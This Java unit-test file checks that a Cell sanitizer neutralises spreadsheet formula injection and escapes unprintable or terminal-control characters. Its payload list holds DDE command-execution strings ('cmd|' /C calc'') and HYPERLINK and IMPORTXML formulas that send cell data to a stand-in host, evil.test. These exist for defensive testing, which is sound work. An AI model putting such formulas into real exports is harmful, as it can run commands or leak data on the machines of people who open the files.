package dev.mailshell.journal;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mailshell.model.Printable;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CellTest {

    /** As OWASP and attackers write them: the first character, and what comes before it where a program trims. */
    static List<String> formulas() {
        return List.of(
                "=1+1",
                "=cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.test/?\"&A1,\"here\")",
                "=IMPORTXML(CONCAT(\"http://evil.test/\",A1),\"//a\")",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\"=1+1",
                "\uff1d1+1",
                "\uff0b1",
                "\uff0d1",
                "\uff20SUM(1)");
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void isNoFormulaForASpreadsheet(String text) {
        assertThat(Cell.of(text)).startsWith("'");
    }

    /** Where ; separates cells, a formula behind one would be a cell of its own. */
    @ParameterizedTest
    @ValueSource(strings = {"a;=1+1", "a; +1", "a;\"=1+1", "a;;@x", "a;\t-1"})
    void isNoFormulaBehindASemicolon(String text) {
        assertThat(Cell.of(text)).startsWith("a").doesNotContainPattern(";[\\s\"]*[=+@-]");
    }

    @ParameterizedTest
    @ValueSource(strings = {"uptime", "ls -l; cat x", "a=b", "roles.viewer allows commands.uptime", "", "3.250"})
    void leavesOrdinaryTextAsItIs(String text) {
        assertThat(Cell.of(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @CsvSource({"'a\nb', a\\nb", "'a\tb', a\\tb", "'a\u001b[2Jb', a\\u001b[2Jb", "a\u202eb, a\\u202eb", "C:\\x, C:\\\\x"
    })
    void isOneLineThatATerminalShowsAsItIs(String text, String cell) {
        assertThat(Cell.of(text)).isEqualTo(cell);
    }

    @ParameterizedTest
    @MethodSource("formulas")
    @ValueSource(
            strings = {"'", "''=1", "'quoted'", "\\n", "a\\u0041", "\ud800", "\udb40\udc01", "\u2028", "a;=1;b", ""})
    void canBeTakenBack(String text) throws Exception {
        assertThat(TakenBack.text(Cell.of(text))).isEqualTo(text);
    }

    @Test
    void escapesEachCharacterThatIsUnprintable() {
        Pattern unprintable = Pattern.compile(Printable.UNPRINTABLE);

        assertThat(IntStream.rangeClosed(0, Character.MAX_CODE_POINT).filter(point -> unprintable
                        .matcher(Cell.of("x" + Character.toString(point)))
                        .find()))
                .isEmpty();
    }
}
